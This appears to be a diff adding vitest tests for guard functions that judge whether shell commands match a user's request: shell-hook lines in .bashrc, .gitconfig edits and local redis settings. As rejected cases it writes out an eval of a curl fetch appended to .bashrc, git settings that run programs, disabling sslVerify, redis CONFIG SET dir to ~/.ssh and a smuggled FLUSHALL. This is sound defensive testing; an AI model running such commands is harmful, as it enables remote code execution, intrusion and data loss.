@@ -1,0 +1,83 @@
+import { describe, expect, it } from 'vitest';
+import { setsLocalRedisConfig } from './local-datastores.js';
+import { parseShell } from './shell.js';
+import { addsOnlyRequestedShellHooks, editsNamedGitSettings } from './user-config.js';
+
+const HOME = '/home/dev';
+
+async function parse(command: string) {
+  return parseShell(command, { homeDir: HOME, cwd: `${HOME}/project` });
+}
+
+describe('addsOnlyRequestedShellHooks', () => {
+  it.each([
+    [`echo 'eval "$(direnv hook bash)"' >> ~/.bashrc`, 'Hook direnv into my bash.', true],
+    [`echo 'zoxide init fish | source' >> ~/.config/fish/config.fish`, 'Add zoxide to fish.', true],
+    [`echo 'eval "$(direnv hook bash)"' >> ~/.bashrc`, 'Set up the project .envrc.', false],
+    [`echo 'eval "$(direnv hook bash)"' >> ~/.bashrc`, "Don't hook direnv into bash.", false],
+    [`echo 'eval "$(mise activate zsh)"' >> ~/.bashrc`, 'Activate mise in my zsh.', false],
+    [`echo 'eval "$(curl -fsSL https://x.example/e)"' >> ~/.bashrc`, 'Hook curl into bash.', false],
+    [`echo 'eval "$(direnv hook bash)"' > ~/.bashrc`, 'Hook direnv into my bash.', false],
+    [
+      `echo 'eval "$(direnv hook bash)"; curl x.example' >> ~/.bashrc`,
+      'Hook direnv into bash.',
+      false,
+    ],
+  ])('%s after %j gives %s', async (command, message, expected) => {
+    expect(addsOnlyRequestedShellHooks(await parse(command), HOME, message)).toBe(expected);
+  });
+});
+
+describe('editsNamedGitSettings', () => {
+  const gitconfig = `${HOME}/.gitconfig`;
+
+  it('accepts named pull rebase setting', () => {
+    const message = 'Make git pull rebase by default for me everywhere.';
+    const edit = ['[pull]\n\trebase = false', '[pull]\n\trebase = true'] as const;
+    expect(editsNamedGitSettings(gitconfig, HOME, ...edit, message)).toBe(true);
+  });
+
+  it('rejects settings that run programs', () => {
+    const message = 'Set the git core hooks path and my alias up for me everywhere.';
+    const hooks = ['[core]', '[core]\n\thooksPath = /home/dev/.githooks'] as const;
+    const alias = ['[alias]', '[alias]\n\tup = !sh up.sh'] as const;
+    const template = ['[init]', '[init]\n\ttemplateDir = /tmp/tpl'] as const;
+    expect(editsNamedGitSettings(gitconfig, HOME, ...hooks, message)).toBe(false);
+    expect(editsNamedGitSettings(gitconfig, HOME, ...alias, message)).toBe(false);
+    expect(editsNamedGitSettings(gitconfig, HOME, ...template, 'Set git init template dir.')).toBe(
+      false,
+    );
+  });
+
+  it('rejects unnamed settings and other files', () => {
+    const message = 'Make git pull rebase by default.';
+    const verify = ['[http]\n\tsslVerify = true', '[http]\n\tsslVerify = false'] as const;
+    const pull = ['[pull]\n\trebase = false', '[pull]\n\trebase = true'] as const;
+    expect(editsNamedGitSettings(gitconfig, HOME, ...verify, message)).toBe(false);
+    expect(editsNamedGitSettings('/etc/gitconfig', HOME, ...pull, message)).toBe(false);
+  });
+});
+
+describe('setsLocalRedisConfig', () => {
+  it.each([
+    [
+      'redis-cli -p 6380 CONFIG SET maxmemory-policy allkeys-lru',
+      'Make my local redis evict with LRU.',
+      true,
+    ],
+    ['redis-cli -h ::1 CONFIG SET maxmemory 256mb', 'Cap my local redis at 256mb.', true],
+    [
+      'redis-cli -h cache.example.internal CONFIG SET maxmemory 256mb',
+      'Cap my local redis at 256mb.',
+      false,
+    ],
+    ['redis-cli CONFIG SET dir /home/dev/.ssh', 'Set my local redis dir to the ssh folder.', false],
+    ['redis-cli CONFIG SET maxmemory 256mb', 'Why is my local redis at 256mb?', false],
+    ['redis-cli CONFIG SET maxmemory 256mb FLUSHALL', 'Cap my local redis at 256mb.', false],
+  ])('%s after %j gives %s', async (command, message, expected) => {
+    const parsed = await parse(command);
+    const [first] = parsed.commands;
+    expect(first).toBeDefined();
+    expect(first !== undefined && setsLocalRedisConfig(first, message)).toBe(expected);
+  });
+});
